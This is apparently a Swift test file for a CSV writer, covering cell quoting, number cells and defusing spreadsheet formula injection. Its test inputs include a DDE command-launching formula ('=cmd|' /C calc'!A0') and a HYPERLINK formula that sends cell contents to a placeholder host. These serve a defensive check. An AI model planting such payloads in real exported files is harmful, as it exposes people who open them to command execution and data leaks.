// SPDX-License-Identifier: Apache-2.0
import Notation
import TestData
import Testing

@Suite struct CSVLineTests {
    @Test(
        arguments: [
            ("gpt-4o", "gpt-4o"), ("", ""), ("a b", "\"a b\""), ("a,b", "\"a,b\""), ("a;b", "\"a;b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""), ("two\nlines", "two\u{FFFD}lines"), ("ü-1", "ü-1"),
        ])
    func `a text is one cell`(text: String, cell: String) {
        var line = CSVLine()
        line.add(text: text)
        #expect(line.text == cell)
    }

    @Test(
        arguments: [
            "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "%x", "\t=1", "\r=1", " =1", "\u{00A0}=1", "＝1", "＋1", "－1", "＠x",
            "=HYPERLINK(\"http://x.invalid?\"&A1,\"a\")", "=cmd|' /C calc'!A0",
        ])
    func `a text that a spreadsheet may run begins with an apostrophe`(text: String) {
        var line = CSVLine()
        line.add(text: text)
        let cell = line.text.hasPrefix("\"") ? String(line.text.dropFirst().dropLast()) : line.text
        #expect(cell.hasPrefix("'"), "\(line.text)")
    }

    @Test(arguments: ["a=1", "gpt-4o", "1-2", "x@y", "'=1"])
    func `a text with such a character further behind is left alone`(text: String) {
        var line = CSVLine()
        line.add(text: text)
        #expect(line.text == text)
    }

    @Test func `numbers stay numbers, and none is an empty cell`() {
        var line = CSVLine()
        line.add(number: "-0.5")
        line.add(number: nil)
        line.add(number: "12")
        #expect(line.text == "-0.5,,12")
    }

    @Test func `random texts give lines with as many cells as texts`() {
        var random = SeededGenerator(seed: 14)
        let letters: [Character] = ["a", ",", "\"", "\n", "\r", "=", " ", ";", "'", "\u{202E}", "ü"]
        for _ in 0..<2_000 {
            let texts = (0..<3).map { _ in
                String(
                    (0..<Int.random(in: 0...6, using: &random)).map { _ in letters.randomElement(using: &random) ?? "a"
                    })
            }
            var line = CSVLine()
            for text in texts { line.add(text: text) }
            let cells = Self.cells(of: line.text)
            #expect(cells.count == 3)
            for (cell, text) in zip(cells, texts) {
                let plain = ShownText.plain(text)
                #expect(cell == plain || cell == "'" + plain)
            }
        }
    }

    /// A second reader of comma-separated values.
    private static func cells(of line: String) -> [String] {
        var (cells, isQuoted, rest) = ([""], false, Array(line)[...])
        while let character = rest.popFirst() {
            switch (character, isQuoted) {
            case ("\"", true) where rest.first == "\"":
                rest.removeFirst()
                cells[cells.count - 1].append("\"")
            case ("\"", _): isQuoted.toggle()
            case (",", false): cells.append("")
            default: cells[cells.count - 1].append(character)
            }
        }
        return cells
    }
}
